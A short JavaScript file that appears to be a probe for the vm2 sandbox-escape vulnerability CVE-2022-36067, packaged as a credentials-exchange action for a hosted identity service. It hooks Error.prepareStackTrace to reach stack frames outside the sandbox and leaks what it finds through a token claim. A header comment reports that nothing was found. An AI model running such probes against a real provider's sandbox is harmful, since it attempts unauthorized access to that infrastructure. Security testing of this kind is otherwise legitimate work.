// outcome: completed; later found=[]; beside served
// vm2 CVE-2022-36067: `Error.prepareStackTrace`, left in place, is called with the frames of the program around the action.
const found = new Set()
const isOwn = (site) => site.getFileName()?.endsWith('action.js') ?? false
let prepare
let limit
exports.onExecuteCredentialsExchange = async () => {
  prepare = Error.prepareStackTrace
  limit = Error.stackTraceLimit
  Error.stackTraceLimit = Number.POSITIVE_INFINITY
  Error.prepareStackTrace = (_error, sites) => {
    for (const site of sites) {
      if (isOwn(site)) continue
      for (const name of ['getThis', 'getFunction', 'getEvalOrigin']) {
        const value = site[name]()
        if (value !== undefined && value !== null && value !== globalThis)
          found.add(`${name} ${site.getFunctionName()}`)
      }
    }
    return 'a stack'
  }
}
exports.report = async (_event, api) => {
  Reflect.apply(Error.captureStackTrace, Error, [{}])
  console.trace('here')
  if (new Error('here').stack !== 'a stack') throw new Error('never called')
  Error.prepareStackTrace = prepare
  Error.stackTraceLimit = limit
  api.accessToken.setCustomClaim('found', Array.from(found))
}
